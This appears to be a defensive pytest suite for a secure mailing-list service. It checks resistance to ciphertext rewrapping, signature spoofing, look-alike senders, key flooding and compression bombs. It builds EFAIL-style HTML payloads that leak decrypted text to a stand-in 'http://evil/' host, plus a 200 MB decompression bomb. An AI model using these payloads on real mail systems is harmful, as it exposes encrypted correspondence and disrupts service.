"""More attacks of the kinds of test_attacks.py: other wrappings of captured ciphertext, other ways to look signed, other
ways to slip a key in, other bombs. Again with what is legitimate beside it."""
import os
import re
import time

import pytest

from sitekit import Person, Refused, swaks
from test_attacks import (ANN, BOB, CANARY, CID, GRETA, SECURE, crlf, openssl, scene, text,  # noqa: F401 (a fixture)
                          verdict_read_by_bob)
from test_ladder import GnuPg


def mime(armor, boundary=b"e"):
    return (b"MIME-Version: 1.0\r\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=" + boundary +
            b"\r\n\r\n--" + boundary + b"\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--" + boundary +
            b"\r\nContent-Type: application/octet-stream\r\n\r\n" + crlf(armor) + b"\r\n--" + boundary + b"--\r\n")


def bare(entity):
    return entity.replace(b"MIME-Version: 1.0\r\n", b"")


def wrappings(good, armored):
    """name -> entity: captured ciphertext where a program might open it all the same."""
    inline = crlf(armored)
    return {
        "attached message": b"MIME-Version: 1.0\r\nContent-Type: message/rfc822\r\n\r\nFrom: " + ANN.encode() + b"\r\n" + good,
        "alternative": b"MIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=b\r\n\r\n--b\r\n"
                       b"Content-Type: text/html\r\n\r\n<img src='http://evil/?\r\n--b\r\n" + bare(good) + b"\r\n--b--\r\n",
        "only part of a mixed": b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n" + bare(good)
                                + b"\r\n--b--\r\n",
        "pgp beside text": b"MIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nLook:\r\n" + inline,
        "pgp in html": b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<img src='http://evil/?\r\n" + inline + b"'>\r\n",
        "pgp in a mixed": b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n" + bare(mime(armored))
                          + b"\r\n--b--\r\n",
        "said to be signed data": good.replace(b"enveloped-data", b"signed-data"),
    }


def test_5_captured_ciphertext_is_opened_in_no_wrapping(scene):  # noqa: F811
    good = scene.sealed(scene.signed(text(), scene.stage.people[ANN]))
    armored = scene.greta.run("--armor", "--sign", "--encrypt", "-r", SECURE, input=text())
    for name, entity in wrappings(good, armored).items():
        since = time.time()
        post = scene.send(entity, BOB)
        if isinstance(post, dict) and post["verdict"] == "accepted":
            copy = scene.stage.sink.wait(ANN, since=since)[0]
            assert CANARY.encode() not in scene.stage.people[ANN].read(copy.raw), name


def test_5_what_greta_signed_for_another_time_is_no_post_of_somebody_else(scene):  # noqa: F811
    """Surreptitious forwarding: the ciphertext is whole and signed, the author is not its signer."""
    armored = scene.greta.run("--armor", "--sign", "--encrypt", "-r", SECURE, input=text())
    for entity in (mime(armored), mime(armored, b"other"),
                   b"MIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\n" + crlf(armored)):
        assert scene.send(entity, BOB)["reason"] == "unreadable"
    assert scene.send(mime(armored), GRETA)["verdict"] == "accepted"


def test_5_every_changed_octet_of_ciphertext_has_the_same_answer(scene):  # noqa: F811
    good = scene.sealed(scene.signed(text(), scene.stage.people[ANN]))
    head, body = good.split(b"\r\n\r\n", 1)
    lines = body.rstrip().split(b"\r\n")
    answers = {}
    for at in (4, 8, len(lines) // 3, len(lines) // 2, len(lines) - 6, len(lines) - 2):
        changed = list(lines)
        changed[at] = changed[at][:8] + (b"A" if changed[at][8:9] != b"A" else b"B") + changed[at][9:]
        post = scene.send(head + b"\r\n\r\n" + b"\r\n".join(changed) + b"\r\n")
        answers[at] = (post["verdict"], post["reason"])
    assert set(answers.values()) == {("rejected", "unreadable")}, (len(lines), answers)


def test_6_look_alikes_of_the_author_are_not_the_author(scene, tmp_path):  # noqa: F811
    thief = "ann@example.org.evil.example"
    person = Person(tmp_path, thief, "rsa")
    for sender in (f'"{ANN}" <{thief}>', f"{ANN.replace('a', 'а', 1)}"):
        post = scene.send(scene.signed(text(), person), sender)
        assert not isinstance(post, dict) or post["verdict"] != "accepted", sender  # neither is a member
    ann, bob = scene.stage.people[ANN], scene.stage.people[BOB]
    assert verdict_read_by_bob(scene, scene.signed(text(), ann), header=f"Sender: {BOB}\r\n".encode()) == "good"
    nested = scene.signed(bare(scene.signed(text(), ann)), bob)  # the outermost signer is another
    assert verdict_read_by_bob(scene, nested) == "by"


def test_6_a_certificate_that_names_the_author_only_by_cn_or_beside_others_proves_nothing(scene, tmp_path):  # noqa: F811
    for number, names in enumerate(([], ["email:evil@elsewhere.example"])):
        key, certificate = tmp_path / f"{number}.key", tmp_path / f"{number}.crt"
        more = ["-addext", "subjectAltName=" + ",".join(names)] if names else []
        openssl("req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", str(key), "-out", str(certificate), "-days", "30",
                "-subj", f"/CN={ANN}/emailAddress={ANN}", *more, input=b"")
        person = Person(tmp_path / "p", ANN, None)
        person.key, person.certificate = key, certificate
        assert verdict_read_by_bob(scene, scene.signed(text(), person)) != "good", names


def test_6_words_beside_clear_signed_text_take_the_verdict_away(scene):  # noqa: F811
    signed = scene.greta.run("--clear-sign", input=CANARY.encode() + b"\n")

    def told(body):
        entity = b"MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" + crlf(body)
        return verdict_read_by_bob(scene, entity, GRETA)

    assert told(signed) == "good"
    begin = b"-----BEGIN PGP SIGNATURE-----\n"
    for changed in (signed.replace(begin, begin + b"Comment: pay Bob\n"), signed.replace(b"Hash: ", b"Hash: Pay Bob, "),
                    signed + b"PS: pay Bob\n", b"Pay Bob:\n" + signed):
        assert told(changed) != "good", changed


def keys_of(scene, address):  # noqa: F811
    return {(key["state"], key["fingerprint"]) for key in scene.site.cli("key", "list", address)["items"]}


def test_13_no_flood_of_keys_in_mail_moves_the_confirmed_one_or_grows_without_bound(scene, tmp_path):  # noqa: F811
    before = keys_of(scene, ANN)
    confirmed = {key for key in before if key[0] == "confirmed"}
    for number in range(12):
        thief = Person(tmp_path / str(number), ANN, "p256")
        scene.send(scene.signed(text(), thief))
    pgp = GnuPg(ANN, "ed25519", "cv25519")
    key = crlf(pgp.public.read_bytes())
    scene.send(b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n"
               + CANARY.encode() + b"\r\n--b\r\nContent-Type: application/pgp-keys\r\n\r\n" + key + b"\r\n--b--\r\n")
    after = keys_of(scene, ANN)
    assert {key for key in after if key[0] == "confirmed"} == confirmed
    assert len(after - before) <= 10
    since = time.time()
    scene.send(b"MIME-Version: 1.0\r\n" + text(), BOB, subject="Secure: after")
    assert CANARY.encode() in scene.stage.people[ANN].read(scene.stage.sink.wait(ANN, since=since)[0].raw)


def test_13_a_key_for_another_spelling_of_the_address_serves_only_the_address_itself(scene, tmp_path):  # noqa: F811
    before = keys_of(scene, ANN)
    for other in ("ann.x@example.org", "ann@example.org.evil.example", "ann@sub.example.org"):
        thief = Person(tmp_path / other, other, "p256")
        with pytest.raises(Refused):
            scene.site.cli("key", "import", ANN, str(thief.certificate))
    assert keys_of(scene, ANN) == before


def test_21_bombs_in_mail_to_the_list_cost_little_and_other_mail_goes_on(scene, tmp_path):  # noqa: F811
    import base64
    import zlib
    bomb = zlib.compressobj(9, zlib.DEFLATED, -15)
    raw = bomb.compress(b"\0" * (200 << 20)) + bomb.flush()
    (tmp_path / "bomb").write_bytes(raw)
    packet = bytes([0xc8, 0xff]) + (len(raw) + 1).to_bytes(4, "big") + b"\x01" + raw  # OpenPGP: compressed data
    many = b"".join(b"\xc1\x5e\x03" + os.urandom(8) + b"\x12\x01\x07\x40" + os.urandom(32) + b"\x30" + os.urandom(48)
                    for _ in range(30000))
    nested = b"\x30\x80" * 200000
    for name, content, sender in (
            ("compressed", mime(b"-----BEGIN PGP MESSAGE-----\n\n" + base64.encodebytes(packet) + b"-----END PGP MESSAGE-----\n"), GRETA),
            ("many session keys", mime(b"-----BEGIN PGP MESSAGE-----\n\n" + base64.encodebytes(many) + b"-----END PGP MESSAGE-----\n"), GRETA),
            ("deep CMS", b"MIME-Version: 1.0\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n"
             b"Content-Transfer-Encoding: base64\r\n\r\n" + crlf(base64.encodebytes(nested)), ANN)):
        started = time.monotonic()
        post = scene.send(content, sender)
        assert time.monotonic() - started < 30, name
        assert not isinstance(post, dict) or post["verdict"] != "accepted", name
    since = time.time()
    code, dialogue = swaks(scene.site.smtp_port, ANN, [SECURE], f"From: {ANN}\r\nTo: {SECURE}\r\nSubject: Secure: on\r\nMessage-ID: "
                           f"<{os.urandom(8).hex()}@example.org>\r\nDate: Mon, 02 Mar 2026 10:00:00 +0000\r\n\r\n{CANARY}\r\n")
    assert code == 0, dialogue
    assert CANARY.encode() in scene.stage.people[BOB].read(scene.stage.sink.wait(BOB, since=since)[0].raw)
    memory = [int(re.search(r"VmHWM:\s+(\d+)", open(f"/proc/{pid}/status").read()).group(1)) // 1024
              for pid in scene.site.pids().values()]
    assert max(memory) < 400, memory
    assert CID  # a member by pick-up stands in the list of the scene
